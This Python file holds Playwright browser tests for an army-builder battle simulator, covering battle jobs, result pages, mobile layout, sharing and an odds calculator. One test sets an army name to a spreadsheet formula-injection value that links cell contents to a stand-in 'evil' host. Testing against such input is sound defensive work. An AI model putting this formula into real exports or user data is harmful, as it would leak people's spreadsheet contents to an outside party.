"""A visitor lets a list fight: from the builder to the result, on a phone and on a desk, with and without JavaScript."""

import json

import pytest
from playwright.sync_api import expect

from armybuilder.battles.models import BattleJob, BattleResult
from armybuilder.battles.play.pace import BattleKind, record_pace
from tests.battles.conftest import NORTH, SOUTH
from tests.browser.pages import follow, overflow
from tests.jobs.hands import work_off

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def asked(open_page, **screen):
    """The page of a job against one list, four battles long, that waits."""
    page = open_page("/forces/import/", **screen)
    page.fill("textarea", json.dumps(NORTH))
    follow(page, "main form button")
    page.click("#export")
    page.get_by_role("link", name="Test battle", exact=True).click()
    page.check("#b-lists")
    page.fill("#b-text", json.dumps(SOUTH))
    page.select_option("#b-battles", "20")
    return page


def test_from_the_builder_to_the_result(open_page, fits, settings):
    settings.BATTLE_WORKERS = 1
    page = asked(open_page)
    fits(page)
    follow(page, page.get_by_role("button", name="Fight"))
    page.get_by_role("heading", name="Waiting for its turn").wait_for()
    fits(page)
    page.focus("#cancel")
    with page.expect_response("**/progress/"):
        pass
    assert page.evaluate("document.activeElement.id") == "cancel"
    BattleJob.objects.update(battles=4)
    with page.expect_navigation():  # when all is played the whole page comes anew
        work_off()
    page.get_by_role("heading", name="Result", exact=True).wait_for()
    for summary in page.locator("main details > summary").all():
        summary.click()
    fits(page)

    assert page.get_by_role("heading", level=1).inner_text() == "Two of us against Snakes"
    expect(page.locator(".battle-bar[role=img]")).to_have_count(1)

    page.set_viewport_size({"width": 390, "height": 844})
    columns = page.locator(".battle-models").first.locator("thead th")
    ends = columns.evaluate_all("cells => cells.map((cell) => [cell.textContent, cell.getBoundingClientRect().right])")
    assert [text for text, end in ends if end <= 390][:5] == ["Model", "Credit per TV", "", "Survived", "Credit, TV"]

    drawn_out(BattleResult.objects.get())
    page.reload()
    assert page.locator(".battle-columns > div").count() == 14
    assert overflow(page) == 0


def test_a_name_without_blanks_does_not_widen_a_phone(open_page, settings):
    settings.BATTLE_WORKERS = 1
    page = asked(open_page, width=390)
    page.fill("#b-text", json.dumps(SOUTH | {"name": '=HYPERLINK("http://evil/?"&A1,"x")'}))
    follow(page, page.get_by_role("button", name="Fight"))
    BattleJob.objects.update(battles=2)
    with page.expect_navigation():
        work_off()
    page.get_by_role("heading", name="Result", exact=True).wait_for()
    page.wait_for_load_state("load")
    assert overflow(page) == 0

    follow(page, "#share")
    follow(page, page.get_by_role("link", name="Open it"))
    page.wait_for_load_state("load")
    assert overflow(page) == 0


def test_an_overview_is_shared_and_its_rest_is_played(open_page, fits, settings):
    settings.BATTLE_WORKERS = 1
    page = asked(open_page)
    page.check("#b-random")
    page.click(".battle-settings > summary")
    page.select_option("#b-policy", "random")
    page.select_option("#b-opponent-policy", "random")
    follow(page, page.get_by_role("button", name="Fight"))
    BattleJob.objects.update(battles=1)
    follow(page, "#cancel")
    follow(page, "#go-on")
    with page.expect_navigation():
        work_off()
    page.get_by_role("heading", name="How much the AI player matters").wait_for()
    fits(page)

    follow(page, "#another-player")
    page.get_by_text("0 of 5 played").wait_for()
    follow(page, "#share")
    follow(page, page.get_by_role("link", name="Open it"))
    page.get_by_text("decided battles against all armies").wait_for()
    fits(page)


def test_what_is_opened_stays_open(open_page, settings):
    settings.BATTLE_WORKERS = 1
    page = asked(open_page)
    page.check("#b-random")
    page.click(".battle-settings > summary")
    page.select_option("#b-policy", "random")
    page.select_option("#b-opponent-policy", "random")
    follow(page, page.get_by_role("button", name="Fight"))
    page.get_by_role("heading", name="Waiting for its turn").wait_for()
    work_off()
    BattleResult.objects.filter(number__gt=1).update(summary="", done=0, won=0, lost=0)
    BattleJob.objects.update(state="playing")
    page.reload()
    armies = page.locator("summary", has_text="Army by army")
    armies.click()
    for _ in range(2):
        with page.expect_response("**/progress/"):
            pass
    page.locator("#against-1").wait_for()

    assert page.evaluate("document.activeElement.textContent") == "Army by army"

    # When all is played the whole page comes anew.
    BattleJob.objects.update(state="done")
    with page.expect_navigation():
        pass
    page.locator("#against-1").wait_for()

    assert page.evaluate("document.activeElement.textContent") == "Army by army"
    armies.click()
    with page.expect_navigation():
        page.evaluate("location.reload()")
    assert page.locator("details[open]").count() == 0


def test_time_is_told_while_the_form_is_filled_in(open_page, axe):
    page = asked(open_page, width=390)
    told = page.locator("#estimate")
    told.filter(has_text="20 battles: a few seconds.").wait_for()
    page.click(".battle-settings > summary")
    record_pace(BattleKind("blitz-beta", ("greedy", "planner"), 32), 10, 600.0)
    page.select_option("#b-policy", "greedy")
    told.filter(has_text="20 battles: about 20 minutes.").wait_for()
    page.check("#b-gauntlet")
    told.filter(has_text="50 armies × 4 = 200 battles: about 5 hours.").wait_for()
    page.select_option("#b-battles", "300")
    told.filter(has_text="That's 3,000 battles; the limit is 1,000 at once.").wait_for()

    # What is pasted is not asked with: it may be as long as a list.
    assert page.input_value("#b-text") == json.dumps(SOUTH)
    assert overflow(page) == 0
    axe(page)


def drawn_out(result):
    """Battles that took from 4 to 17 rounds."""
    summary = json.loads(result.summary) | {"rounds": {str(number): number for number in range(4, 18)}}
    BattleResult.objects.filter(pk=result.pk).update(summary=json.dumps(summary))


def test_without_javascript(open_page, settings):
    settings.BATTLE_WORKERS = 1
    page = asked(open_page, javascript=False)
    follow(page, "button:has-text('Fight')")
    BattleJob.objects.update(battles=2)
    work_off()
    # The page asks again by itself.
    page.get_by_role("heading", name="Result", exact=True).wait_for()

    follow(page, "a:has-text('Test battles') >> nth=0")
    assert page.locator("main .rows .badge").first.inner_text() == "PLAYED"


def test_odds_of_an_attack(open_page, fits):
    """A card fills in what it tells, the rest is asked for, Enter tells the odds."""
    page = open_page("/battles/odds/blitz-2006/")
    fits(page)
    page.get_by_label("Weapon", exact=True).select_option("LAC")
    defender = page.get_by_role("group", name="Defender")
    defender.get_by_label("Card").select_option("northern-guard/kodiak")
    defender.get_by_label("Speed").select_option("combat")
    follow(page, defender.get_by_role("button", name="Fill in its stats"))
    expect(defender.get_by_label("Defense modifier")).to_have_value("-2")
    defender.get_by_label("Defense skill").fill("2")
    with page.expect_navigation():
        defender.get_by_label("Defense skill").press("Enter")
    page.get_by_text("Fix 2 errors to see the odds").wait_for()
    fits(page)
    attacker = page.get_by_role("group", name="Attacker")
    attacker.get_by_label("Attack skill").fill("3")
    attacker.get_by_label("Attack modifier").fill("0")
    follow(page, page.get_by_role("button", name="Calculate"))
    page.get_by_role("heading", name="Light Autocannon at medium range").wait_for()
    fits(page)

    assert page.locator(".odds-columns > div").count() == 14


def test_a_phone_gives_its_group_a_role(open_page, axe):
    page = asked(open_page, width=390)
    page.click(".battle-settings > summary")
    page.get_by_text("Roles of your groups").click()
    page.select_option("[name=role0]", label="Snipe")
    assert overflow(page) == 0
    axe(page)
    follow(page, page.get_by_role("button", name="Fight"))
    expect(page.get_by_text("Roles of its groups: snipe")).to_be_visible()
    assert BattleJob.objects.get().roles == "snipe"
